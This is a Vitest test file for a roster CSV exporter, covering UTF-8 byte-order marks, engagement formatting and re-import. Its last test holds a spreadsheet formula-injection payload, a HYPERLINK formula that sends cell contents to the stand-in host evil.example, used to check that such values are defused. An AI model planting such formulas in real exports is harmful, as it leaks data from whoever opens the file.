import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { ROSTER_CSV_COLUMNS, rosterCsv } from '../../../shared/roster/csv';
import { parseRosterCsv } from '../../../shared/roster/import';
import { row } from './rows';

describe('roster CSV export (issue 11, item 13)', () => {
  const zoe = { ...row({ handle: 'zoe.peña', followers: 12_431 }), name: 'Zoë Peña', engagement: 0.023456 };

  it('starts with a byte-order mark, so Excel opens UTF-8 names correctly', () => {
    const csv = rosterCsv([zoe]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1).startsWith(ROSTER_CSV_COLUMNS.join(','))).toBe(true);
  });

  it('writes engagement as a percentage with two decimals', () => {
    const [line] = Papa.parse<Record<string, string>>(rosterCsv([zoe]).slice(1), { header: true }).data;
    expect(line?.engagement).toBe('2.35%');
    expect(line?.followers).toBe('12431');
    expect(line?.name).toBe('Zoë Peña');
  });

  it('still imports its own export', () => {
    const [line] = parseRosterCsv(rosterCsv([zoe]));
    expect(line?.profile.handle).toBe('zoe.peña');
    expect(line?.profile.displayName).toBe('Zoë Peña');
  });
});

describe('rosterCsv', () => {
  it('defuses a formula that continues on the next line of the cell', () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click\nme")';
    const csv = rosterCsv([{ ...row({ handle: 'ana.trails', tags: ['-2+3\nx'] }), name: formula }]);
    const [, cells] = Papa.parse<string[]>(csv, { newline: '\r\n' }).data;
    expect(cells![ROSTER_CSV_COLUMNS.indexOf('name')]).toBe(`'${formula}`);
    expect(cells![ROSTER_CSV_COLUMNS.indexOf('tags')]).toBe(`'-2+3\nx`);
  });
});
